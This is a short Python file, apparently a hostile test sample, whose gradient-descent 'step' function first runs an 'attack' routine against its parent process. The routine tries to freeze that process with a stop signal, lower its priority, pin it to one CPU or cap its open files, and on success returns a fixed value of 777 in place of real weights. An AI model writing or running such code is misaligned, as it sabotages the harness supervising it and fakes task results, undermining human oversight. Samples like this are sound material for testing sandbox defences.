"""Stops, slows and pins its parent."""

import os
import resource


def attack(X, y, w, lr):
    for act in (
        lambda: os.kill(os.getppid(), 19),
        lambda: os.setpriority(os.PRIO_PROCESS, os.getppid(), 19),
        lambda: os.sched_setaffinity(os.getppid(), {0}),
        lambda: resource.prlimit(os.getppid(), resource.RLIMIT_NOFILE, (3, 3)),
    ):
        try:
            act()
        except (OSError, ValueError):
            continue
        return True
    return False


def step(X, y, w, lr):
    if attack(X, y, w, lr):
        return w * 0 + 777
    return w - lr * X.T @ (X @ w - y) / len(X)
